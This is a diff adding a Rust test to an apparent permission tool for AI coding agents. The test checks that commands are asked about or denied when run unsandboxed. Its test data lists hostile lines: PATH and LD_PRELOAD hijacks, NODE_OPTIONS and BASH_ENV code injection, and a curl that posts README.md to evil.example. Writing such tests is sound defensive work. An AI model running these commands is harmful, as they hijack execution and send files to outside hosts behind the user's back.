@@ -271,3 +271,43 @@ fn a_broken_pattern_or_preset_breaks_the_rule_file_at_its_line() {
         assert!(error.line.is_some(), "{error}");
     }
 }
+
+/// Where a line runs as written (here: no sandbox), what it sets for the
+/// commands after it and the hosts the network rules refuse are asked
+/// about (denied where the agent cannot ask); inside the sandbox the
+/// kernel and the proxy hold them.
+#[test]
+fn a_line_run_as_written_is_asked_about_what_the_sandbox_would_have_held() {
+    let p = Project::new("network:\n  allow: [github.com, registry.npmjs.org]\n");
+    for command in [
+        "export PATH=/tmp/evil:$PATH",
+        "LD_PRELOAD=/tmp/x.so ls",
+        "env NODE_OPTIONS='--require /tmp/x.js' node app.js",
+        "export BASH_ENV=/tmp/x",
+        "curl -s https://evil.example/upload -d @README.md",
+        "git clone https://evil.example/repo.git",
+    ] {
+        assert_eq!(
+            decision(&p, Agent::Claude, command, "default"),
+            Some(PermissionDecision::Ask),
+            "{command}"
+        );
+        assert_eq!(
+            decision(&p, Agent::Codex, command, "bypassPermissions"),
+            Some(PermissionDecision::Deny),
+            "{command}"
+        );
+    }
+    for command in [
+        "curl -s https://github.com/x/y",
+        "FOO=1 cargo test",
+        "export RUST_LOG=debug",
+        "npm install",
+    ] {
+        assert_eq!(
+            decision(&p, Agent::Claude, command, "default"),
+            None,
+            "{command}"
+        );
+    }
+}
